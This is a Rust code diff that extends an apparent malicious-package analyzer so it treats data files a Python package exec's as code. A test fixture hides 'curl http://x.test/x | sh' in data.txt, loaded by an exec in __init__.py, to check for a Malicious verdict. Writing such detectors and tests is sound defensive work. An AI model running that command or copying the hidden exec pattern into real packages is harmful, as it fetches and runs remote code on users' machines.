@@ -367,6 +367,39 @@ impl Analyzer {
             }
         }
 
+        // Files that are not Python modules but whose content the package's code exec's
+        // (a payload kept in `data.txt`): analysed as code run where the exec is.
+        let mut exec_files: Vec<(String, Scope)> = per_file_facts
+            .iter()
+            .flat_map(|(_, facts)| facts.exec_files.iter().map(|(n, _, s)| (n.clone(), *s)))
+            .collect();
+        exec_files.sort_by(|a, b| a.0.cmp(&b.0));
+        exec_files.dedup_by(|a, b| a.0 == b.0);
+        for (name, scope) in exec_files {
+            for f in files.iter().filter(|f| {
+                basename(&f.path) == name
+                    && !f.path.to_ascii_lowercase().ends_with(".py")
+                    && !flagged_binary.contains(f.path.as_str())
+            }) {
+                let ctx = python::PyCtx {
+                    path: &f.path,
+                    role: python::Role::Module,
+                    top: scope,
+                    func: Scope {
+                        stage: Stage::Runtime,
+                        factor: RUNTIME_FACTOR * scope.factor.min(1.0),
+                    },
+                    layer: 0,
+                    forced: None,
+                    depth_left: self.cfg.max_decode_depth,
+                    max_parse: self.cfg.max_parse_bytes,
+                    in_pip: in_pip(&f.path),
+                };
+                let facts = self.python_file(&f.data, &ctx, &mut sink);
+                per_file_facts.push((f.path.clone(), facts));
+            }
+        }
+
         // Combinations within one file.
         for (path, facts) in &per_file_facts {
             // Same function (or both at the top level): drop, then run (a program started
@@ -1024,6 +1057,33 @@ mod tests {
         };
         assert!(rules_of("runpy.run_path('a.py')").contains(&"PY-DL-WRITE-EXEC".to_string()));
         assert!(!rules_of("print('a.py')").contains(&"PY-DL-WRITE-EXEC".to_string()));
+    }
+
+    #[test]
+    fn a_non_python_file_the_package_execs_is_analysed_as_code() {
+        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
+        let init = pf(
+            "p-1/p/__init__.py",
+            "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'data.txt')).read())\n",
+        );
+        let data = pf(
+            "p-1/p/data.txt",
+            "import os\nos.system('curl http://x.test/x | sh')\n",
+        );
+        let r = a.analyze(&[init.clone(), data.clone()], &[]);
+        assert_eq!(r.verdict, Verdict::Malicious);
+        let f = r
+            .findings
+            .iter()
+            .find(|f| f.rule == "CMD-STAGED-EXEC")
+            .unwrap();
+        assert_eq!(
+            (f.file.as_str(), f.stage),
+            ("p-1/p/data.txt", Some(Stage::Import))
+        );
+        // The same text that nothing execs is data.
+        let r = a.analyze(&[pf("p-1/p/__init__.py", "X = 1\n"), data], &[]);
+        assert_eq!(r.verdict, Verdict::Benign);
     }
 
     #[test]
